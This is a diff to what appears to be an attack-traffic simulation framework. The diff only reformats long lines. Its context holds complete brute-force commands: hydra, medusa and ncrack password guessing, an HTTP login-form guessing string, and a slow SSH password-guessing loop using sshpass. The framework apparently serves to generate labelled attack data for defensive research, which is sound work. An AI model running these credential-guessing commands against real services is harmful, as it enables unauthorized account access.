@@ -18,7 +18,8 @@ def _tool(job, victim, service, port):
     threads = job.rng.choice((1, 4, 8))
     which = job.rng.choice(("hydra", "hydra", "medusa", "ncrack"))
     if which == "hydra":
-        return ["hydra", "-I", "-L", users, "-P", tries, "-t", threads, *job.rng.choice(([], ["-W", "1"])), "-s", port, victim.v4, service]
+        return ["hydra", "-I", "-L", users, "-P", tries, "-t", threads, *job.rng.choice(([], ["-W", "1"])), "-s",
+                port, victim.v4, service]
     if which == "medusa":
         return ["medusa", "-h", victim.v4, "-U", users, "-P", tries, "-t", threads, "-n", port, "-M", service]
     return ["ncrack", "-U", users, "-P", tries, "-T", job.rng.choice((2, 3, 4)), f"{service}://{victim.v4}:{port}"]
@@ -59,7 +60,8 @@ def http_basic_guessing(job):
 
 @attack("brute_force", "hydra", wants="web")
 def http_form_guessing(job):
-    _http(job, lambda tls: (["https-post-form" if tls else "http-post-form", "/app/login:user=^USER^&pass=^PASS^:F=incorrect"]))
+    _http(job, lambda tls: (["https-post-form" if tls else "http-post-form",
+                             "/app/login:user=^USER^&pass=^PASS^:F=incorrect"]))
 
 
 def _http(job, how):
@@ -69,7 +71,8 @@ def _http(job, how):
     tls = job.rng.random() < 0.3
     port = victim.services["tls" if tls else "web"]
     with job.claim(attacker, victim, port=port):
-        job.run(attacker, ["hydra", "-I", "-L", users, "-P", tries, "-t", job.rng.choice((1, 4, 8)), "-s", port, victim.v4, *how(tls)], 35)
+        job.run(attacker, ["hydra", "-I", "-L", users, "-P", tries, "-t", job.rng.choice((1, 4, 8)), "-s", port,
+                           victim.v4, *how(tls)], 35)
 
 
 @attack("brute_force", "sshpass", "ssh", wants="ssh")
@@ -81,7 +84,8 @@ def slow_ssh_guessing(job):
     port = victim.services["ssh"]
     with job.claim(attacker, victim, port=port):
         for secret in words.guesses(job.rng, job.rng.randint(8, 30)):
-            job.run(attacker, ["sshpass", "-p", secret, "ssh", *SSH, "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
+            job.run(attacker, ["sshpass", "-p", secret, "ssh", *SSH, "-o", "PubkeyAuthentication=no", "-o",
+                               "NumberOfPasswordPrompts=1",
                                "-p", port, f"{job.rng.choice(list(job.services.users))}@{victim.v4}", "true"], 8)
             if not job.sleep(job.rng.uniform(0.1, 1.5)):
                 break
